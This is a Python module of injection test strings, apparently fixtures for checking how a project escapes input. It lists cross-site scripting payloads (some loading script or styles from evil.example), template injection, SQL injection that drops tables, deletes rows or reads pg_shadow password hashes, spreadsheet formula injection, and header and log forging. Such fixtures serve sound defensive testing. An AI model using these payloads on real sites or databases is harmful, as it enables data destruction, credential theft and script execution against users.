"""Texts that do something where they are taken for code: in a page, a database, a table, a log."""

from __future__ import annotations

MARKUP = (
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT\t>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><style><img src onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>Veluvians",
    "<a href='javascript:alert(1)'>Veluvians</a>",
    "<style>@import '//evil.example/x.css'</style>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "` onmouseover=`alert(1)",
    "</title></textarea></style></script><script>alert(1)</script>",
    "</bdi></a></td></tr></table><script>alert(1)</script>",
    "</text></svg><script>alert(1)</script>",
    "javascript:alert(1)//%0d%0aalert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\ufeff<script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "{{ 7 * 7 }}{{ config }}{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "${7*7}#{7*7}<%= 7*7 %>",
)
"""Cross-site scripting and templates."""

SQL = (
    "'",
    '"',
    "\\",
    "' OR '1'='1",
    "' OR 1=1 --",
    '" OR 1=1 --',
    "') OR ('1'='1",
    "1 OR 1=1",
    "1; DROP TABLE answers",
    "'; DROP TABLE answers; --",
    "'); DELETE FROM texts; --",
    "'; UPDATE keys SET revoked = NULL; --",
    "'; INSERT INTO keys DEFAULT VALUES; --",
    "' UNION SELECT name FROM sqlite_master --",
    "' UNION ALL SELECT usename, passwd FROM pg_shadow --",
    "'; ATTACH DATABASE 'evil.db' AS evil; --",
    "'; COPY answers TO '/dev/null'; --",
    "'; SELECT pg_sleep(30); --",
    "' || (SELECT randomblob(1000000000)) || '",
    "' AND (SELECT count(*) FROM answers) > 0 --",
    "' AND 1=CAST((SELECT url FROM jobs) AS int) --",
    "admin'/*",
    "*/ OR 1=1 /*",
    "%' OR community LIKE '%",
    "_%",
    ":text_hash",
    "%(text_hash)s",
    "?; --",
    "$$; DROP TABLE events; $$",
    "\u02bc OR 1=1 --",
    "\xbf' OR 1=1 --",
    "'\x00; DROP TABLE chain; --",
)
"""SQL, for SQLite and PostgreSQL, and what their drivers take for a parameter."""

TABLES = ("=1+1", "+1+1", "-1+1", "@SUM(1)", '=HYPERLINK("//evil.example","x")', "\t=1+1")
"""Formulas, for whoever opens a CSV in a spreadsheet."""

LINES = (
    "ok\r\nSet-Cookie: a=b",
    "ok\n2026-01-01T00:00:00.000Z INFO hatelens.access forged",
    "\x1b]0;title\x07\x1b[2J",
)
"""Header lines, log lines and terminals."""

ALL = (*MARKUP, *SQL, *TABLES, *LINES)
